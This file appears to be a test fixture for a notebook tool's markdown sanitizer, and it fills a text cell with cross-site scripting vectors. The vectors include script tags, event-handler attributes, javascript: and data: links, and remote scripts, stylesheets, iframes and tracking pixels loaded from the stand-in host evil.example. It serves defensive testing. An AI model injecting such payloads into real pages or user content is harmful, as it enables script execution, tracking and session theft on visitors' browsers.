# Writes scripts into text cells, its own and the assignment's.
#
# start from: blank
# expect: all 0

# %% markdown below load-data
# Title <script>alert('evil')</script>

<script>alert('evil')</script> <script src="https://evil.example/x.js"></script>
<img src=x onerror="alert('evil')"> <img src="https://evil.example/pixel.png"> ![pixel](https://evil.example/pixel.png)
<svg onload="alert('evil')"><animate onbegin="alert('evil')"/></svg> <iframe src="https://evil.example"></iframe>
<a href="javascript:alert('evil')">here</a> [there](javascript:alert('evil')) [data](data:text/html;base64,PHNjcmlwdD4=)
<div style="background: url(https://evil.example/x)">x</div> <style>@import "https://evil.example/x.css";</style>
<link rel="stylesheet" href="https://evil.example/x.css"> <base href="https://evil.example/"> <meta http-equiv="refresh" content="0; url=https://evil.example">
<form action="https://evil.example"><input autofocus onfocus="alert('evil')"></form> <object data="https://evil.example"></object>
<details open ontoggle="alert('evil')">x</details> <math><mtext></mtext><script>alert('evil')</script></math>
$$ </script><script>alert('evil')</script> $$ $\href{javascript:alert('evil')}{x}$

```html
<script>alert('code')</script>
```
